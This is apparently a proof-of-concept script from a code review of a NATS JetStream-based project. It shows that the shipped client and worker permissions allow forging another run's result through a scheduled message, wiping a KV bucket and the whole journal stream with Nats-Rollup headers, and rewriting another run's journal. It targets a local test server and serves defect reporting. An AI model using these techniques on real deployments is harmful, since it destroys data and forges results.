# ruff: noqa: T201, TID251, BLE001
"""Repro (review rev-clinats): the CLIENT role of nats/accounts.conf is not what the
docs say. Run from the worktree root:

    PYTHONPATH=src:. /work/main/.venv/bin/python review/rev-clinats/client_role_bypass.py

Against a real nats-server started with nats/accounts.conf as shipped, the client user
(fusee_client), which "cannot write into <ns>.run.>" and "cannot purge", does with
nothing but publishes its role allows on its own inbox subjects:
  A. forges another run's RESULT: a message schedule whose Nats-Schedule-Target is
     <ns>.run.<eid>.end, carrying a run.completed chained to the journal's last record
     (the server writes it, not the client); result() returns "FORGED";
  B. empties the work KV bucket (config.secret, every active.* key) with Nats-Rollup: all
     on $KV.fusee_work.active.<anything>;
  C. empties the WHOLE journal stream (every run's journal) with Nats-Rollup: all on an
     inbox subject fusee.in.<p>.<eid>.
  D. (the WORKER role) rewrites another run's journal: Nats-Rollup: sub on <ns>.run.<eid>.j.
Each prints OK (defect reproduced) or not. Exit code 1 if any reproduced.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import shutil
import sys
import tempfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import nats

import fusee
from fusee.adapters.jetstream.server import EmbeddedServer
from fusee.runtime.ids import escape

ROOT = Path(__file__).resolve().parents[2]
PW = {
    "FUSEE_ADMIN_PASS": "a",
    "FUSEE_WORKER_PASS": "w",
    "FUSEE_CLIENT_PASS": "c",
    "FUSEE_SYS_PASS": "s",
}


async def main() -> int:
    store = Path(tempfile.mkdtemp())
    shutil.copy(ROOT / "nats" / "accounts.conf", store / "accounts.conf")
    server = EmbeddedServer.start(store, extra_config="include ./accounts.conf", env=PW)
    bad = 0
    try:
        admin = await fusee.connect(server.url, namespace="fusee", user="fusee_admin", password="a")
        lay = admin.store.layout
        js_admin = admin.store.js
        run = await admin.start("noop", "victim", 1)  # no worker: it never runs
        eid = escape("victim")
        before = [s for s, _ in await run.journal()]
        errors: list[str] = []

        async def on_err(e: Exception) -> None:
            errors.append(str(e))

        nc = await nats.connect(server.url, user="fusee_client", password="c", error_cb=on_err)
        js = nc.jetstream(timeout=2)

        # A. a schedule on an inbox subject the client may publish, whose target is the
        # run's end subject: a run.completed chained to the journal's last record (read
        # with a direct get the role allows; the chain hash is unkeyed blake2b)
        last = await js.get_last_msg(lay.stream, lay.journal(eid))
        chained = {
            "kind": "run.completed",
            "result": "FORGED",
            "prev": last.seq,
            "prev_hash": hashlib.blake2b(last.data, digest_size=8).hexdigest(),
        }
        at = (datetime.now(UTC) + timedelta(seconds=1)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        try:
            await js.publish(
                lay.inbox(0, "x"),
                json.dumps(chained).encode(),
                headers={
                    "Fusee-Kind": "run.completed",
                    "Nats-Schedule": f"@at {at}",
                    "Nats-Schedule-Target": lay.ends(eid),
                },
            )
            published = "accepted"
        except Exception as e:
            published = f"refused: {e}"
        try:
            result = await run.result(timeout=10)
        except Exception as e:
            result = f"{type(e).__name__}: {e}"
        forged = result == "FORGED"
        print(f"A schedule->journal: publish {published}; victim's result(): {result!r}")
        bad += forged

        # B. rollup all on the work bucket
        kv = await js_admin.key_value(lay.work_bucket)
        keys_before = await kv.keys()
        try:
            await js.publish(
                f"$KV.{lay.work_bucket}.active.0.zz", b"", headers={"Nats-Rollup": "all"}
            )
            pb = "accepted"
        except Exception as e:
            pb = f"refused: {e}"
        info = await js_admin.stream_info(f"KV_{lay.work_bucket}")
        print(
            f"B rollup all on work bucket: {pb}; keys before {len(keys_before)} "
            f"({sorted(keys_before)[:3]}...), messages now {info.state.messages}"
        )
        bad += pb == "accepted" and info.state.messages <= 1

        # C. rollup all on an inbox subject
        s0 = await js_admin.stream_info(lay.stream)
        try:
            await js.publish(lay.inbox(0, "x2"), b"{}", headers={"Nats-Rollup": "all"})
            pc = "accepted"
        except Exception as e:
            pc = f"refused: {e}"
        s1 = await js_admin.stream_info(lay.stream)
        print(
            f"C rollup all on inbox: {pc}; stream messages {s0.state.messages} -> "
            f"{s1.state.messages}; journal of victim before {before}"
        )
        bad += pc == "accepted" and s1.state.messages < s0.state.messages
        print("permission errors seen:", errors)
        await nc.close()

        # D. the WORKER role empties another run's journal with Nats-Rollup: sub
        other = await admin.start("noop", "other", 1)
        eo = escape("other")
        wc = await nats.connect(server.url, user="fusee_worker", password="w")
        await wc.jetstream().publish(lay.journal(eo), b"", headers={"Nats-Rollup": "sub"})
        await wc.close()
        try:
            left: object = [s for s, _ in await other.journal()]
        except Exception as e:
            left = f"unreadable: {type(e).__name__}: {e}"
        print(
            f"D worker rollup sub on another run's journal: run.started replaced; "
            f"its journal now: {left}"
        )
        await admin.close()
    finally:
        server.stop()
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
